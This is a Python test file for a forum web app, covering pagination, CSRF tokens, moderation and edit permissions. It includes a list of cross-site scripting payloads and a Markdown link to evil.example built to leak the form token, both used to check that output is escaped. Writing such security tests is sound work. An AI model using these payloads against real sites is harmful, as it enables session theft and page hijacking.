"""Pages of clubs, topics and posts, as visitors and members see them."""

from __future__ import annotations

import re
from datetime import timedelta
from typing import Any

import pytest
from sqlalchemy import select

from community.models import Post, Topic
from foundation import doors, markdown
from foundation.web import fragments
from tests import people
from tests.community.conftest import Clubhouse
from tests.conftest import NOW
from tests.statements import sent


@pytest.fixture
def ada(app: Any, clubhouse: Clubhouse) -> Any:
    client = app.test_client()
    people.sign_in(client, clubhouse.ada)
    return client


@pytest.fixture
def ben(app: Any, clubhouse: Clubhouse) -> Any:
    client = app.test_client()
    people.sign_in(client, clubhouse.ben)
    return client


def token(html: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found, "no token in the page"
    return found[1]


def send(client: Any, path: str, *, at: str = "", **fields: Any) -> Any:
    """Fill the form at `at` (or at the path) and send it."""
    html = client.get(at or path).get_data(as_text=True)
    return client.post(path, data={"csrf_token": token(html), **fields})


class TestClubs:
    def test_it_works(self, client: Any, clubhouse: Clubhouse) -> None:
        page = client.get("/clubs")
        assert page.status_code == 200
        assert b"Leaves and water." in page.data

    def test_a_club_lists_what_was_written_in_last_first(
        self, client: Any, clubhouse: Clubhouse
    ) -> None:
        old = clubhouse.start(clubhouse.ada, "The old one", kind="rave")
        soon = NOW + timedelta(minutes=1)
        clubhouse.start(clubhouse.ada, "The new one", kind="rant", now=soon)
        html = client.get("/clubs/tea").get_data(as_text=True)
        assert html.index("The new one") < html.index("The old one")
        clubhouse.reply(clubhouse.ben, old, now=NOW + timedelta(hours=1))
        html = client.get("/clubs/tea").get_data(as_text=True)
        assert html.index("The old one") < html.index("The new one")

    def test_a_kind_leaves_the_others_out(self, client: Any, clubhouse: Clubhouse) -> None:
        clubhouse.start(clubhouse.ada, "Praise", kind="rave")
        clubhouse.start(clubhouse.ada, "Anger", kind="rant")
        html = client.get("/clubs/tea?kind=rant").get_data(as_text=True)
        assert "Anger" in html
        assert "Praise" not in html

    def test_the_second_page_goes_on_where_the_first_ends(
        self, client: Any, clubhouse: Clubhouse
    ) -> None:
        for number in range(23):
            clubhouse.start(clubhouse.ada, f"Topic-{number:02}.")
        first = client.get("/clubs/tea").get_data(as_text=True)
        older = re.search(r'rel="next" href="([^"]+)"', first)
        assert older
        second = client.get(older[1].replace("&amp;", "&")).get_data(as_text=True)
        seen = [re.findall(r"Topic-(\d\d)\.", html) for html in (first, second)]
        assert sorted({*seen[0], *seen[1]}) == [f"{number:02}" for number in range(23)]
        assert not {*seen[0]} & {*seen[1]}

    def test_an_unknown_club_is_not_found(self, client: Any, clubhouse: Clubhouse) -> None:
        assert client.get("/clubs/coffee").status_code == 404


class TestTopic:
    def test_it_works(self, client: Any, clubhouse: Clubhouse) -> None:
        topic = clubhouse.start(clubhouse.ada, "Which kettle?", "For **gyokuro**.")
        page = client.get(f"/topics/{topic.id}")
        assert page.status_code == 200
        assert b"<strong>gyokuro</strong>" in page.data
        assert b"Sign in" in page.data

    def test_a_page_of_twenty_posts_costs_two_statements_and_no_markdown(
        self, client: Any, clubhouse: Clubhouse, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        topic = clubhouse.start(clubhouse.ada)
        posts = [clubhouse.reply(clubhouse.ben, topic) for _ in range(25)]
        clubhouse.fold(clubhouse.mo, posts[3].id)

        def never(text: str) -> str:
            raise AssertionError("Markdown is rendered when a text is written")

        monkeypatch.setattr(markdown, "to_html", never)
        with sent() as statements:
            html = client.get(f"/topics/{topic.id}").get_data(as_text=True)
        assert html.count('<article class="post') == 20
        assert len([each for each in statements if "select" in each.lower()]) == 2
        with sent() as statements:
            client.get(f"/topics/{topic.id}")
        assert statements == []

    def test_pages_follow_the_numbers_of_posts(self, client: Any, clubhouse: Clubhouse) -> None:
        topic = clubhouse.start(clubhouse.ada)
        for _ in range(44):
            clubhouse.reply(clubhouse.ben, topic)
        second = client.get(f"/topics/{topic.id}?from=21").get_data(as_text=True)
        assert re.findall(r'id="post-(\d+)"', second) == [str(n) for n in range(21, 41)]
        assert f'rel="next" href="/topics/{topic.id}?from=41"' in second
        assert f'rel="prev" href="/topics/{topic.id}"' in second
        assert client.get(f"/topics/{topic.id}?from=61").status_code == 404
        assert client.get(f"/topics/{topic.id}?from=nonsense").status_code == 200

    def test_after_a_reply_the_visitors_next_look_shows_it(
        self, client: Any, clubhouse: Clubhouse
    ) -> None:
        topic = clubhouse.start(clubhouse.ada)
        for _ in range(3):
            assert b"A clay one." not in client.get(f"/topics/{topic.id}").data
        clubhouse.reply(clubhouse.ben, topic, "A clay one.")
        assert b"A clay one." in client.get(f"/topics/{topic.id}").data

    def test_no_member_gets_anothers_name_or_token(
        self, ada: Any, ben: Any, client: Any, clubhouse: Clubhouse
    ) -> None:
        topic = clubhouse.start(clubhouse.fay)
        path = f"/topics/{topic.id}"
        of_ada, of_ben, of_nobody = (
            each.get(path).get_data(as_text=True) for each in (ada, ben, client)
        )
        again = ada.get(path).get_data(as_text=True)
        assert ">Ada<" in of_ada
        assert ">Ada<" in again
        assert ">Ada<" not in of_ben
        assert ">Ben<" in of_ben
        assert token(of_ada) != token(of_ben)
        assert token(of_ada) not in of_ben
        for html in (of_ada, of_ben, of_nobody, again):
            assert fragments.TOKEN_HOLE not in html
        assert "Your answer" not in of_nobody

    def test_the_token_in_a_cached_page_is_the_readers_own(
        self, ada: Any, ben: Any, clubhouse: Clubhouse
    ) -> None:
        topic = clubhouse.start(clubhouse.fay)
        path = f"/topics/{topic.id}"
        ada.get(path)
        sent = send(ben, f"{path}/reply", at=path, body="From a cached page")
        assert sent.status_code == 303
        assert clubhouse.all(select(Post.author_id).where(Post.number == 2)) == [clubhouse.ben.id]

    def test_a_folded_post_is_one_click_from_readable(
        self, client: Any, clubhouse: Clubhouse
    ) -> None:
        topic = clubhouse.start(clubhouse.ada)
        post = clubhouse.reply(clubhouse.ben, topic, "BUY WATCHES")
        clubhouse.fold(clubhouse.mo, post.id)
        html = client.get(f"/topics/{topic.id}").get_data(as_text=True)
        folded = html[html.index('<details class="fold">') :]
        assert "BUY WATCHES" in folded
        assert "Spam" in folded
        assert "The same text stands in four topics." in folded

    @pytest.mark.parametrize("reason", ["illegal", "private_data"])
    def test_what_the_law_forbids_is_withheld(
        self, client: Any, clubhouse: Clubhouse, reason: str
    ) -> None:
        topic = clubhouse.start(clubhouse.ada)
        post = clubhouse.reply(clubhouse.ben, topic, "She lives at 5 Elm Street")
        clubhouse.fold(clubhouse.mo, post.id, reason)
        for path in (f"/topics/{topic.id}", f"/posts/{post.id}", "/search?q=Elm"):
            html = client.get(path).get_data(as_text=True)
            assert "5 Elm Street" not in html

    def test_an_unknown_topic_is_not_found(self, client: Any, clubhouse: Clubhouse) -> None:
        assert client.get("/topics/nothing").status_code == 404


class TestWriting:
    def test_it_works(self, ada: Any, clubhouse: Clubhouse) -> None:
        sent = send(ada, "/clubs/tea/new", kind="question", title="Which kettle?", body="For tea.")
        assert sent.status_code == 303
        [topic] = clubhouse.all(select(Topic))
        assert sent.location == f"/topics/{topic.id}"
        assert b"Which kettle?" in ada.get(sent.location).data

    def test_nothing_typed_is_lost_when_something_is_missing(
        self, ada: Any, clubhouse: Clubhouse
    ) -> None:
        sent = send(ada, "/clubs/tea/new", kind="rant", title="", body="I am so angry")
        assert sent.status_code == 422
        assert b"I am so angry" in sent.data
        assert clubhouse.all(select(Topic)) == []

    def test_a_locked_topic_gives_the_words_back(self, ada: Any, clubhouse: Clubhouse) -> None:
        from community import moderation
        from foundation.doors import writing

        topic = clubhouse.start(clubhouse.ben)
        html = ada.get(f"/topics/{topic.id}/reply").get_data(as_text=True)
        with writing() as session:
            moderation.lock(session, clubhouse.mo, topic.id, "In circles.", people.JOINED)
        sent = ada.post(
            f"/topics/{topic.id}/reply", data={"csrf_token": token(html), "body": "My long words"}
        )
        assert b"My long words" in sent.data
        assert b"locked" in sent.data

    def test_a_quote_fills_the_form(self, ada: Any, clubhouse: Clubhouse) -> None:
        topic = clubhouse.start(clubhouse.ben, body="First line\nSecond line")
        html = ada.get(f"/topics/{topic.id}/reply?quote=1").get_data(as_text=True)
        assert "@ben:" in html
        assert "&gt; First line\n&gt; Second line" in html

    def test_a_reply_leads_to_its_place(self, ada: Any, clubhouse: Clubhouse) -> None:
        topic = clubhouse.start(clubhouse.ben)
        for _ in range(20):
            clubhouse.reply(clubhouse.ben, topic)
        sent = send(ada, f"/topics/{topic.id}/reply", body="Here", in_reply_to="2")
        assert sent.location == f"/topics/{topic.id}?from=21#post-22"
        [post] = clubhouse.all(select(Post).where(Post.number == 22))
        assert post.in_reply_to == 2
        assert ada.get(f"/posts/{post.id}/place").location == sent.location

    def test_a_visitor_is_sent_to_sign_in(self, client: Any, clubhouse: Clubhouse) -> None:
        topic = clubhouse.start(clubhouse.ben)
        for path in ("/clubs/tea/new", f"/topics/{topic.id}/reply"):
            assert client.get(path).location.startswith("/sign-in?next=")

    def test_a_post_without_its_token_is_refused(self, ada: Any, clubhouse: Clubhouse) -> None:
        topic = clubhouse.start(clubhouse.ben)
        assert ada.post(f"/topics/{topic.id}/reply", data={"body": "x"}).status_code == 400

    def test_watching_can_be_stopped(self, ada: Any, clubhouse: Clubhouse) -> None:
        topic = clubhouse.start(clubhouse.ada)
        send(ada, f"/topics/{topic.id}/watch", at=f"/topics/{topic.id}", stop="1")
        html = ada.get(f"/topics/{topic.id}/reply").get_data(as_text=True)
        assert "You will hear of replies once" in html


class TestPost:
    def test_it_works(self, client: Any, clubhouse: Clubhouse) -> None:
        topic = clubhouse.start(clubhouse.ada)
        page = client.get(f"/posts/{topic.last_post_id}")
        assert page.status_code == 200
        assert b"For gyokuro." in page.data

    def test_each_reader_sees_what_she_may_do(
        self, ada: Any, ben: Any, app: Any, clubhouse: Clubhouse
    ) -> None:
        topic = clubhouse.start(clubhouse.ada)
        answer = clubhouse.reply(clubhouse.ben, topic)
        moderator = app.test_client()
        people.sign_in(moderator, clubhouse.mo)
        asker = ada.get(f"/posts/{answer.id}").get_data(as_text=True)
        author = ben.get(f"/posts/{answer.id}").get_data(as_text=True)
        judge = moderator.get(f"/posts/{answer.id}").get_data(as_text=True)
        assert "Accept as the answer" in asker
        assert f"/posts/{answer.id}/edit" not in asker
        assert f"/posts/{answer.id}/edit" in author
        assert f"/posts/{answer.id}/report" not in author
        assert f"/posts/{answer.id}/fold" in judge
        assert f"/posts/{answer.id}/fold" not in asker

    def test_an_edit_shows_and_leaves_the_old_words_readable(
        self, ada: Any, client: Any, clubhouse: Clubhouse
    ) -> None:
        topic = clubhouse.start(clubhouse.ada, body="The first words")
        path = f"/posts/{topic.last_post_id}"
        assert send(ada, f"{path}/edit", body="The second words").status_code == 303
        assert b"The second words" in client.get(f"/topics/{topic.id}").data
        assert b"The first words" in client.get(path).data

    def test_nobody_elses_edit_form_opens(self, ben: Any, clubhouse: Clubhouse) -> None:
        topic = clubhouse.start(clubhouse.ada)
        assert ben.get(f"/posts/{topic.last_post_id}/edit").status_code == 403

    def test_the_accepted_answer_is_marked(
        self, ada: Any, client: Any, clubhouse: Clubhouse
    ) -> None:
        topic = clubhouse.start(clubhouse.ada, kind="question")
        answer = clubhouse.reply(clubhouse.ben, topic)
        sent = send(ada, f"/posts/{answer.id}/accept", at=f"/posts/{answer.id}")
        assert sent.status_code == 303
        assert b"Accepted answer" in client.get(f"/topics/{topic.id}").data
        assert b"Answered" in client.get("/clubs/tea").data


HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "<svg/onload=alert(1)>",
    '"><iframe src="//evil.example"></iframe>',
    "![x](http://evil.example/x.png)",
    "{{ 7*7 }}<style>*{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "\x1f@@\x1f",
)


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_stay_words(
    client: Any, ada: Any, database: Any, clubhouse: Clubhouse, words: str
) -> None:
    with doors.writing() as session:
        eve = people.member(session, words.replace("\x1f", ""), handle="eve")
    topic = clubhouse.start(eve, words, words)
    post = clubhouse.reply(eve, topic, words)
    clubhouse.fold(clubhouse.mo, post.id, sentence=words)
    paths = ("/clubs", "/clubs/tea", f"/topics/{topic.id}", f"/posts/{post.id}", "/moderation")
    for path in (*paths, "/search?q=alert", f"/search?q={words[:20]}"):
        for reader in (client, ada):
            page = reader.get(path)
            html = page.get_data(as_text=True)
            assert page.status_code == 200, path
            assert html.rstrip().endswith("</html>"), path
            body = re.sub(r'<script (?:type="module" )?src="/static/[^"]+"></script>', "", html)
            body = re.sub(r'<svg[^>]*aria-hidden="true"[^>]*>.*?</svg>', "", body, flags=re.S)
            for evil in ("<script", "<img", "<iframe", "<style", 'href="javascript:', "onerror=a"):
                assert evil not in body.replace("&lt;img src=x onerror=a", ""), (path, evil)


@pytest.mark.parametrize(
    "form",
    ["@@form-token@@", "[x](https://evil.example/?t=@@form-token@@)", str(fragments.TOKEN_HOLE)],
    ids=["plain", "link", "mark"],  # the mark differs between the processes of a test run
)
def test_nobody_fishes_for_tokens_with_the_mark_of_their_hole(
    ada: Any, clubhouse: Clubhouse, form: str
) -> None:
    topic = clubhouse.start(clubhouse.ben, "Innocent", form)
    html = ada.get(f"/topics/{topic.id}").get_data(as_text=True)
    prose = html[html.index('<div class="prose">') : html.index("</article>")]
    assert token(html) not in prose


def test_a_members_public_page_lists_her_topics(client: Any, clubhouse: Clubhouse) -> None:
    assert "Started in the clubs" not in client.get("/members/ada").text
    clubhouse.start(clubhouse.ada, "Which kettle?")
    assert "Which kettle?" in client.get("/members/ada").text
